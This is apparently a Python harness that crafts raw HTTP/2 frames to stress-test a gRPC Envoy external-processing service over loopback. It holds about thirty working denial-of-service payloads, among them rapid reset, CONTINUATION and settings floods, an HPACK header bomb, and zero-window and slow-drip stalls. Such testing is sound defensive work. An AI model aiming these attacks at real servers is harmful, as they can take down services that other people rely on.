"""HTTP/2 as an attacker sends it: frames without the checks of a library, over sockets that need not be read."""

from __future__ import annotations

import asyncio
import itertools
import socket
import struct
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from hpack import Encoder

from aegaeon_proto.envoy.ext_proc_pb2 import HttpBody, ProcessingRequest

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PROCESS = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4
CHUNK_BYTES = 1 << 16

Headers = list[tuple[str, str]]


def frame(kind: int, stream: int = 0, payload: bytes = b"", flags: int = 0) -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def settings(**values: int) -> bytes:
    codes = {"header_table_size": HEADER_TABLE_SIZE, "initial_window_size": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, payload=b"".join(struct.pack(">HL", codes[name], value) for name, value in values.items()))


def request(path: str = PROCESS) -> Headers:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "picker"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def block(headers: Headers) -> bytes:
    """Without the dynamic table, so that it can be sent any number of times."""
    encoder = Encoder()
    encoder.header_table_size = 0
    encoded: bytes = encoder.encode(headers)
    return encoded


_REQUEST = block(request())


def open_stream(stream: int, fields: bytes = _REQUEST, flags: int = END_HEADERS) -> bytes:
    return frame(HEADERS, stream, fields, flags)


def grpc_message(data: bytes, compressed: int = 0, size: int | None = None) -> bytes:
    return bytes((compressed,)) + (len(data) if size is None else size).to_bytes(4) + data


def body_request(data: bytes) -> bytes:
    """A piece of a tenant's body, which the picker sends back."""
    return ProcessingRequest(request_body=HttpBody(body=data)).SerializeToString()


def reset(stream: int) -> bytes:
    return frame(RST_STREAM, stream, (8).to_bytes(4))


def window(stream: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, stream, increment.to_bytes(4))


def odd(first: int = 1) -> Iterator[int]:
    """Stream ids of a client."""
    return itertools.count(first, 2)


def repeated(make: Callable[[int], bytes]) -> Iterator[bytes]:
    """Chunks of `make(stream id)`, each with ids of its own, for ever."""
    ids = odd(3)
    while True:
        chunk = bytearray()
        while len(chunk) < CHUNK_BYTES:
            chunk += make(next(ids))
        yield bytes(chunk)


def same(data: bytes) -> Iterator[bytes]:
    """The same bytes for ever."""
    return itertools.repeat(data * (CHUNK_BYTES // len(data) or 1))


@dataclass(frozen=True, slots=True)
class Attack:
    """What one connection sends: `opening`, then chunks for as long as they are taken."""

    opening: bytes
    chunks: Callable[[], Iterator[bytes]]
    reads: bool = True
    pause_s: float = 0.0  # between chunks


@dataclass(slots=True)
class Output:
    """What the picker sent to an attacker, as far as it read it."""

    data: bytearray = field(default_factory=bytearray)

    def frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        """(type, flags, stream, payload) of each."""
        at = 0
        while at + 9 <= len(self.data):
            end = at + 9 + int.from_bytes(self.data[at : at + 3])
            stream = int.from_bytes(self.data[at + 5 : at + 9])
            yield self.data[at + 3], self.data[at + 4], stream, bytes(self.data[at + 9 : end])
            at = end

    def goaways(self) -> list[int]:
        """Error codes, in order."""
        return [int.from_bytes(payload[4:8]) for kind, _, _, payload in self.frames() if kind == GOAWAY]

    def resets(self) -> dict[int, int]:
        """Error codes by stream."""
        return {stream: int.from_bytes(payload) for kind, _, stream, payload in self.frames() if kind == RST_STREAM}


def connect(port: int, source: str = "127.0.0.1") -> socket.socket:
    """From one of this machine's loopback addresses."""
    opened = socket.create_connection(("127.0.0.1", port), source_address=(source, 0))
    opened.setblocking(False)
    return opened


async def run(
    attack: Attack, port: int, seconds: float, output: Output | None = None, source: str = "127.0.0.1"
) -> int:
    """Attack over one connection after the other, as each is closed; how many there were."""
    connections = 0
    output = output if output is not None else Output()
    loop = asyncio.get_running_loop()
    until = loop.time() + seconds
    while (left := until - loop.time()) > 0:
        connections += 1
        output.data.clear()
        await once(attack, port, left, output, source)
        await asyncio.sleep(0.01)
    return connections


async def once(attack: Attack, port: int, seconds: float, output: Output, source: str = "127.0.0.1") -> None:
    """Attack over one connection until it is closed, or for so long."""
    try:
        opened = connect(port, source)
    except OSError:
        return
    tasks = {asyncio.create_task(_send(opened, attack))}
    if attack.reads:
        tasks.add(asyncio.create_task(_read(opened, output)))
    wait_for = asyncio.FIRST_COMPLETED if not attack.reads else asyncio.FIRST_EXCEPTION
    await asyncio.wait(tasks, timeout=seconds, return_when=wait_for)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    opened.close()


async def _send(opened: socket.socket, attack: Attack) -> None:
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(opened, attack.opening)
    for chunk in attack.chunks():
        await loop.sock_sendall(opened, chunk)
        await asyncio.sleep(attack.pause_s)


async def _read(opened: socket.socket, output: Output) -> None:
    """Raises OSError at the end, so that nothing more is sent."""
    loop = asyncio.get_running_loop()
    while data := await loop.sock_recv(opened, 1 << 18):
        if len(output.data) < 1 << 20:
            output.data += data
    raise ConnectionResetError


async def _main(name: str, port: str, seconds: str, source: str) -> None:
    await run(ATTACKS[name], int(port), float(seconds), source=source)


HELLO = PREFACE + settings()
_PING = frame(PING, payload=b"8 bytes.")
# A dynamic table of 4,096 bytes, a request, a literal of 4,000 bytes into the table, and 12,000 fields that are it.
_LITERAL = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000
_BOMB = b"\x3f\xe1\x1f" + _REQUEST.removeprefix(b"\x20") + _LITERAL + b"\xbe" * 12_000
_MANY_UNKNOWN = frame(SETTINGS, payload=b"".join(struct.pack(">HL", 4096 + code, 1) for code in range(2000)))
_DRIPPED = b"\0\0\x3f\xff\xff"  # says that four megabytes follow


def _window_zero() -> Iterator[bytes]:
    asked = grpc_message(body_request(b"x" * 60_000))
    ids = [2 * number + 1 for number in range(150)]
    yield b"".join(open_stream(each) for each in ids)
    while True:
        for each in ids:
            yield b"".join(frame(DATA, each, asked[at : at + 16_384]) for at in range(0, len(asked), 16_384))


def _dripped() -> Iterator[bytes]:
    ids = [2 * number + 1 for number in range(1000)]
    yield b"".join(open_stream(each) + frame(DATA, each, _DRIPPED) for each in ids)
    while True:
        for each in ids:
            yield frame(DATA, each, b"x" * 16_384) * 3 + window(each, 1)


def _one_byte(size: int = 1) -> Iterator[bytes]:
    return same(frame(DATA, 1, b"x" * size))


ATTACKS: dict[str, Attack] = {
    "ping flood": Attack(HELLO, lambda: same(_PING)),
    "ping flood, never read": Attack(HELLO, lambda: same(_PING), reads=False),
    "settings flood": Attack(HELLO, lambda: same(settings())),
    "settings flood, never read": Attack(HELLO, lambda: same(settings()), reads=False),
    "unknown settings": Attack(HELLO, lambda: same(_MANY_UNKNOWN)),
    "rapid reset": Attack(HELLO, lambda: repeated(lambda each: open_stream(each) + reset(each))),
    "rapid reset of unfinished streams": Attack(
        HELLO, lambda: repeated(lambda each: open_stream(each) + frame(DATA, each, b"\0") + reset(each))
    ),
    "made to reset": Attack(HELLO, lambda: repeated(lambda each: open_stream(each) + window(each, 2**31 - 1))),
    "continuation flood": Attack(HELLO + frame(HEADERS, 1, b""), lambda: same(frame(CONTINUATION, 1, b"\0" * 1000))),
    "empty continuations": Attack(HELLO + frame(HEADERS, 1, b""), lambda: same(frame(CONTINUATION, 1))),
    "huge headers": Attack(
        HELLO, lambda: repeated(lambda each: frame(HEADERS, each, b"\0\x01a\x7f\xad\x7e" + b"x" * 16_300, END_HEADERS))
    ),
    "header bomb": Attack(HELLO, lambda: repeated(lambda each: open_stream(each, _BOMB))),
    "empty data": Attack(HELLO + open_stream(1), lambda: same(frame(DATA, 1))),
    "one byte a frame": Attack(HELLO + open_stream(1) + frame(DATA, 1, _DRIPPED), _one_byte),
    "empty calls": Attack(HELLO, lambda: repeated(lambda each: open_stream(each, flags=END_HEADERS | END_STREAM))),
    "calls of no method": Attack(
        HELLO, lambda: repeated(lambda each: open_stream(each, block(request(f"/{'x' * 2000}{each}"))))
    ),
    "priority flood": Attack(HELLO, lambda: same(frame(PRIORITY, 1, b"\0\0\0\0\x10"))),
    "frames of no known type": Attack(HELLO, lambda: same(frame(0x42, 0, b"x"))),
    "window updates": Attack(HELLO + open_stream(1), lambda: same(window(0, 1))),
    "window zero": Attack(PREFACE + settings(initial_window_size=0) + window(0, 2**30), _window_zero),
    "tiny windows": Attack(
        PREFACE
        + settings(initial_window_size=0)
        + open_stream(1)
        + frame(DATA, 1, grpc_message(body_request(b"x" * 10_000))),
        lambda: same(window(1, 1)),
    ),
    "streams never finished": Attack(HELLO, lambda: repeated(open_stream)),
    "messages never finished": Attack(HELLO, _dripped),
    "malformed messages": Attack(
        HELLO, lambda: repeated(lambda each: open_stream(each) + frame(DATA, each, grpc_message(b"\xff" * 9)))
    ),
    "answers never read": Attack(
        PREFACE + settings(initial_window_size=2**31 - 1) + window(0, 2**30),
        lambda: repeated(
            lambda each: open_stream(each) + frame(DATA, each, grpc_message(body_request(b"x" * 16_000)), END_STREAM)
        ),
        reads=False,
    ),
    "valid calls without end": Attack(
        HELLO + window(0, 2**30),
        lambda: repeated(
            lambda each: open_stream(each) + frame(DATA, each, grpc_message(body_request(b"x")), END_STREAM)
        ),
    ),
    "goaway, then more": Attack(HELLO + frame(GOAWAY, 0, bytes(8)), lambda: repeated(open_stream)),
    "never a byte": Attack(b"", lambda: iter(()), reads=True),
    "slow preface": Attack(b"", lambda: (PREFACE[at : at + 1] for at in range(len(PREFACE))), pause_s=0.5),
}

if __name__ == "__main__":
    asyncio.run(_main(*sys.argv[1:]))
